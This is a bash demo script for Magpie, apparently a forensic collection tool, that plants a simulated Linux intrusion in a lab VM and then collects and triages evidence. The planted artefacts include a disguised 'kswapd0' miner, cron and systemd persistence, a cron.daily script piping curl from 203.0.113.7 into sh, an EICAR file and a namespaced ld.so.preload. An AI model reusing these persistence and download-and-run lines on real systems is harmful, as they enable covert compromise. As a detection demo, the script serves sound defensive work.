#!/usr/bin/env bash
# Magpie on a Linux server with a planted intrusion, start to finish: read it, then run it as root
# on a machine you can spare (a lab VM; it writes to /etc/cron.d, /etc/cron.daily and
# /etc/systemd/system and removes what it wrote on exit, even after an error or Ctrl-C).
#
#   sudo scripts/demo-linux.sh                      # local collection
#   sudo scripts/demo-linux.sh root@127.0.0.1       # and over SSH to that target (its sshd must
#                                                   # accept your key; it sees the same planted host)
#
# What it plants (all harmless):
#   - a "miner": a copy of /bin/sleep named kswapd0 (a kernel thread's name) in a hidden /dev/shm
#     folder, started with a pool and wallet on its command line, holding a TCP connection to a
#     local listener, then deleted from disk while it runs;
#   - a cron.d entry and an enabled systemd unit that would restart it;
#   - an /etc/cron.daily script that downloads and runs a script (curl | sh);
#   - the EICAR anti-virus test file, and a ClamAV signature for it (freshclam may not reach the
#     internet);
#   - /etc/ld.so.preload naming a library in the hidden folder — only inside a private mount
#     namespace that the collection runs in, so nothing else on the machine loads it.
# Then `magpie run full` collects (network, processes, autostarts, a ClamAV scan, a core dump of
# every process flagged at high), `magpie verify` and `sha256sum -c` check the evidence, and
# `magpie triage` lists what it found. Needs: pwsh (npm install sets it up), clamav, gdb,
# util-linux (unshare, nsenter), python3.
set -euo pipefail

here=$(cd "$(dirname "$0")/.." && pwd)
magpie() { node "$here/bin/magpie.js" "$@"; }
ssh_target=${1:-}

[ "$(id -u)" = 0 ] || { echo "run as root: it writes to /etc and dumps process memory" >&2; exit 2; }
for tool in clamscan gcore unshare nsenter python3; do
  command -v "$tool" >/dev/null || { echo "missing $tool: apt-get install -y clamav gdb util-linux python3" >&2; exit 2; }
done

tag="magpie-demo-$$"
shm="/dev/shm/.$tag"
drop="/tmp/$tag"
work=$(mktemp -d)
pids=()
created_preload=""

cleanup() {
  set +e
  for p in "${pids[@]}"; do kill -9 "$p" 2>/dev/null; done
  rm -f "/etc/cron.d/$tag" "/etc/cron.daily/$tag" "/etc/systemd/system/multi-user.target.wants/$tag.service" "/etc/systemd/system/$tag.service"
  rm -rf "$shm" "$drop"
  if [ -n "$created_preload" ] && [ ! -s /etc/ld.so.preload ]; then rm -f /etc/ld.so.preload; fi
  echo "== removed everything planted; the evidence stays in $work/evidence"
}
trap cleanup EXIT

echo "== planting in $shm, /etc/cron.d/$tag, /etc/cron.daily/$tag, /etc/systemd/system/$tag.service, $drop"
mkdir -p "$shm" "$drop"
cp /bin/sleep "$shm/kswapd0"
cp "$(ldconfig -p | awk '/libm\.so\.6 .*x86-64/ {print $NF; exit}')" "$shm/libhide.so"

# A listener, and the miner holding a connection to it (python passes the socket as fd 3).
python3 -c 'import socket,time; s=socket.socket(); s.bind(("127.0.0.1",0)); s.listen(); print(s.getsockname()[1], flush=True); c=s.accept(); time.sleep(3600)' >"$work/port" &
pids+=($!)
while [ ! -s "$work/port" ]; do sleep 0.1; done
port=$(cat "$work/port")
python3 - "$shm/kswapd0" "$port" <<'PY' &
import os, socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[2])))
os.dup2(s.fileno(), 3)
os.set_inheritable(3, True)  # Python's sockets close on exec otherwise
os.execv(sys.argv[1], ["kswapd0 -o stratum+tcp://pool.example.net:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level 1", "3600"])
PY
miner=$!
pids+=("$miner")
sleep 0.5
rm "$shm/kswapd0"   # deleted while it runs

echo "*/10 * * * * root $shm/kswapd0 >/dev/null 2>&1" >"/etc/cron.d/$tag"
printf '#!/bin/sh\ncurl -fsSL http://203.0.113.7/update.sh | sh\n' >"/etc/cron.daily/$tag"
chmod 755 "/etc/cron.daily/$tag"
printf '[Unit]\nDescription=Kernel swap helper\n\n[Service]\nExecStart=%s/kswapd0\nRestart=always\n\n[Install]\nWantedBy=multi-user.target\n' "$shm" >"/etc/systemd/system/$tag.service"
mkdir -p /etc/systemd/system/multi-user.target.wants
ln -s "/etc/systemd/system/$tag.service" "/etc/systemd/system/multi-user.target.wants/$tag.service"

eicar='X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'
printf '%s' "$eicar" >"$drop/invoice.pdf.exe"
mkdir -p "$work/clamav-db"
printf '%s:%s:Magpie.Test.EICAR\n' "$(printf '%s' "$eicar" | md5sum | cut -d' ' -f1)" "${#eicar}" >"$work/clamav-db/magpie.hdb"

# The preload, in a mount namespace of its own: a sleeping process holds it open.
[ -e /etc/ld.so.preload ] || { : >/etc/ld.so.preload; created_preload=1; }
echo "$shm/libhide.so" >"$work/ld.so.preload"
unshare --mount --propagation private sleep 3600 &
ns=$!
pids+=("$ns")
sleep 0.3
nsenter -t "$ns" -m -- mount --bind "$work/ld.so.preload" /etc/ld.so.preload

params=(--param "av-scan.Paths=$drop" --param "av-scan.DatabasePath=$work/clamav-db" --case demo --out "$work/evidence")

echo "== magpie run full (locally, inside the namespace that sees the preload); miner pid $miner"
nsenter -t "$ns" -m -- node "$here/bin/magpie.js" run full "${params[@]}"
if [ -n "$ssh_target" ]; then
  echo "== magpie run full over SSH to $ssh_target (its sshd runs outside the namespace: no preload there)"
  magpie run full --transport ssh --target "$ssh_target" "${params[@]}" || true
fi

for dir in "$work"/evidence/demo/*/*Z; do
  echo "== $dir"
  (cd "$dir" && sha256sum -c --quiet SHA256SUMS && echo "sha256sum -c: every file matches")
  magpie verify "$dir"
  magpie triage "$dir"
done
